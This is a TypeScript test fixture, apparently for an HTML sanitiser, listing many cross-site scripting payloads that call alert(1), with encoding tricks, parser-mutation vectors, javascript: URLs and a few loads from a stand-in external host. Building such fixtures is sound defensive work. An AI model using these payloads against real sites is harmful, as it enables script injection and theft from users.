/**
 * Attacks in HTML, in the manner of DOMPurify's fixtures and written anew: each calls `alert(1)` where a
 * page takes it for markup. Families are made by combination where only the combination differs.
 */

const run = 'alert(1)';
const picture = `<img src=x onerror=${run}>`;

/** What runs by itself as soon as it is parsed. */
const byThemselves = [
  `<script>${run}</script>`,
  `<SCRIPT >${run}</SCRIPT >`,
  `<script/x>${run}</script/y>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script type=module>${run}</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script>//<![CDATA[\n${run}\n//]]></script>`,
  `<script><!--\n${run}\n--></script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}" /></svg>`,
  `<svg><script>&#97;lert(1)</script></svg>`,
  `<svg onload=${run}>`,
  `<svg><g onload=${run} /></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${run} attributename=x>`,
  `<svg><image href=x onerror=${run} />`,
  `<svg><foreignObject>${picture}</foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,&lt;svg id=x xmlns=http://www.w3.org/2000/svg&gt;&lt;image href=1 onerror=${run} /&gt;&lt;/svg&gt;#x" />${picture}`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<iframe onload=${run}></iframe>`,
  `<iframe srcdoc="${picture.replaceAll('<', '&lt;')}"></iframe>`,
  `<iframe srcdoc='<script>parent.${run}</script>'></iframe>`,
  `<iframe srcdoc="&lt;svg onload=parent.${run}&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data="javascript:${run}"></object>${picture}`,
  `<object data=x onerror=${run}></object>`,
  `<embed src=x onload=${run}>${picture}`,
  `<video><source onerror=${run}></video>`,
  `<video src=x onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<input type=image src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<select autofocus onfocus=${run}></select>`,
  `<button autofocus onfocus=${run}>x</button>`,
  `<a href=# tabindex=1 autofocus onfocus=${run}>x</a>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<link rel=stylesheet href=x onerror=${run}>`,
  `<style onload=${run}>p{}</style>`,
  `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=${run}>x</p>`,
  `<p style="transition:opacity 1ms" ontransitionend=${run} onmouseover=${run}>x</p>`,
  `<custom-element onfocus=${run} tabindex=0 autofocus>x</custom-element>`,
  `<template shadowrootmode=open>${picture}</template>${picture}`,
  `<div popover id=p onbeforetoggle=${run}>x</div><button popovertarget=p>y</button>`,
];

/** What waits for a reader: every event on an element that is allowed to stay in many sanitisers. */
const elements = ['a href=#', 'abbr title=x', 'math', 'svg'];
const events = [
  'onclick',
  'onmouseover',
  'onpointerenter',
  'onfocusin',
  'onkeydown',
  'oncontextmenu',
];
const byReaders = elements.flatMap((element) =>
  events.map((event) => `<${element} ${event}=${run} tabindex=0>x</${element.split(' ')[0]}>`),
);

/** One picture, written in ways that a pattern would miss. */
const spellings = [
  picture,
  picture.toUpperCase().replace('ALERT', 'alert'),
  `<img/src/onerror=${run}>`,
  `<img\nsrc=x\nonerror\n=\n${run}\n>`,
  `<img\tsrc=x\tonerror="${run}"`,
  `<img src=x onerror=${run}//`,
  `<img src=\`x\` onerror=\`\`;${run};\`\`>${picture}`,
  `<<img src=x onerror=${run}>`,
  `<img src="x" title=">" onerror='${run}'>`,
  '<img src=x onerror=&#97;lert(1)>',
  '<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&lpar;1&rpar;>',
  '<img src=x onerror=\\u0061lert(1)>',
  "<img src=x onerror=\"window['al'+'ert'](1)\">",
  '<img src=x onerror="[1].map(alert)">',
  '<img src=x onerror="location=`javascript:alert(1)`">',
  `<image src=x onerror=${run}>`,
  `<img srcset="x 1x" onerror=${run}>`,
  `<img src=x alt="a\u0060b" onerror=${run}>`,
  `<img src=x o\u006eerror=${run}>`,
  `<x>${picture}</x>`,
];

/** Ways out of the place where a page may have put the text. */
const breakOuts = [
  '">',
  "'>",
  '`>',
  '" x="',
  '--></script>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</iframe></xmp></noembed>',
  '</select></option>',
  '</svg></math>',
  '</p></div></main></body></html>',
  ']]>',
  '-->',
  '--!>',
  '?>',
  '%>',
].map((way) => way + picture);
const attributeBreaks = [
  `" onmouseover="${run}`,
  `' onmouseover='${run}`,
  `" autofocus onfocus="${run}" x="`,
  `x onmouseover=${run} `,
  `&quot; onmouseover=&quot;${run}`,
  `&#34; onclick=${run} x=&#34;`,
  `\\" onclick=${run} //`,
  `javascript:${run}`,
  `"}-${run}-{"`,
  `');${run};//`,
  `</script><script>${run}//`,
];

/** Mutation: text in one parse, markup in the next. */
const namespaces = [
  ['<svg>', '</svg>'],
  ['<math>', '</math>'],
  ['<math><mtext><table><mglyph>', '</mglyph></table></mtext></math>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<form><math><mtext></form><form><mglyph>', '</mglyph></mtext></math></form>'],
];
const rawText = ['style', 'noscript', 'title', 'textarea', 'iframe'];
const mutations = namespaces.flatMap(([open, close]) =>
  rawText.map((name) => `${open}<${name}><a id="</${name}>${picture}">x</a></${name}>${close}`),
);
const confusions = [
  `<!--><script>${run}</script>-->`,
  `<!-- --!>${picture}<!-- -->`,
  `<!---><img src=x onerror=${run}>--->`,
  `<![CDATA[><img src=x onerror=${run}>]]>`,
  `<svg><![CDATA[</svg>]]></svg>${picture}`,
  `<?xml version="1.0"?><img src=x onerror=${run}>`,
  `<!DOCTYPE x [<!ENTITY y "${picture}">]>&y;`,
  `<noscript><p title="</noscript>${picture}">`,
  `<svg></p><style><g title="</style>${picture}">`,
  `<math></br><style><b title="</style>${picture}"></math>`,
  `<select><template><style><!--</select>${picture}--></style>`,
  `<table><td><form><td></form>${picture}`,
  `<a><table><a href=#><img src=x onerror=${run}></table></a>`,
  `<option><style></option></select>${picture}</style>`,
  `<frameset><frame src="javascript:${run}">${picture}`,
  `<plaintext></plaintext>${picture.replaceAll(' ', '/')}<!-- <script>${run}</script>`,
];

/** Addresses that are scripts, in everything that takes an address. */
export const scriptAddresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java&Tab;script:${run}`,
  `&#106;avascript&colon;${run}`,
  `javascript://elsewhere.example/%0a${run}`,
  'javascript:%61lert(1)',
  `vbscript:${run}`,
  `data:text/html,<script>parent.${run}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
];
const carriers = [
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<form action="${address}"><button>x</button></form>`,
  (address: string) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
];
const addresses = carriers.flatMap((carrier, index) =>
  scriptAddresses.filter((_, at) => index === 0 || at % 2 === index % 2).map(carrier),
);
const otherAddresses = [
  `<button form=f formaction="javascript:${run}">x</button><form id=f></form>`,
  `<map name=m><area href="javascript:${run}" shape=default></map><img usemap=#m src=x>`,
  `<math><mtext href="javascript:${run}">x</mtext></math>`,
  `<svg><a><animate attributeName=href to="javascript:${run}" begin=0s fill=freeze /><text>x</text></a></svg>`,
  `<base href="javascript:${run}//"><a href=x>x</a>`,
  '<base href="https://elsewhere.example/"><script src=x.js></script>',
  '<meta http-equiv=refresh content="0; url=https://elsewhere.example/">',
  `<meta http-equiv=refresh content="0; url=data:text/html,<script>${run}</script>">`,
  '<form action="https://elsewhere.example/"><input name=a autofocus><button>x</button></form>',
  '<a href="https://elsewhere.example/" ping="https://elsewhere.example/ping">x</a>',
  '<link rel=prefetch href="https://elsewhere.example/"><link rel=stylesheet href="//elsewhere.example/x.css">',
  '<img src="https://elsewhere.example/pixel.gif"><video poster="https://elsewhere.example/p"></video>',
  `<script src="//elsewhere.example/x.js" onerror="${run}"></script>`,
];

/** Styles, and names that stand in the way of a script's own. */
const styles = [
  `<p style="width:expression(${run})">x</p>`,
  `<p style="background:url(javascript:${run})">x</p>`,
  '<p style="background:url(https://elsewhere.example/p.gif)">x</p>',
  '<style>@import "https://elsewhere.example/x.css";</style>',
  '<style>*{display:none!important}</style>',
  `<p style="-moz-binding:url(x.xml#a);behavior:url(x.htc)" onmousemove=${run}>x</p>`,
  '<p style="position:fixed;inset:0;z-index:9">over everything</p>',
];
const clobbering = [
  '<form id=search data-search><input name=attributes><input name=submit></form>',
  '<img name=getElementById><img name=querySelector><img name=cookie>',
  '<a id=document></a><a id=location href="javascript:alert(1)">x</a>',
  '<form name=body><input name=firstChild><input name=parentNode></form>',
  '<a id=words></a><a id=words name=language href="data:text/html,x">x</a>',
  '<iframe name=top srcdoc="<a id=self>"></iframe>',
  '<div id=main data-search data-words="{}" data-results data-pagefind-body>x</div>',
  '<template data-template=result><li><a data-part=title onclick=alert(1)>x</a></li></template>',
];

export const htmlAttacks: readonly string[] = [
  ...byThemselves,
  ...byReaders,
  ...spellings,
  ...breakOuts,
  ...attributeBreaks,
  ...mutations,
  ...confusions,
  ...addresses,
  ...otherAddresses,
  ...styles,
  ...clobbering,
];
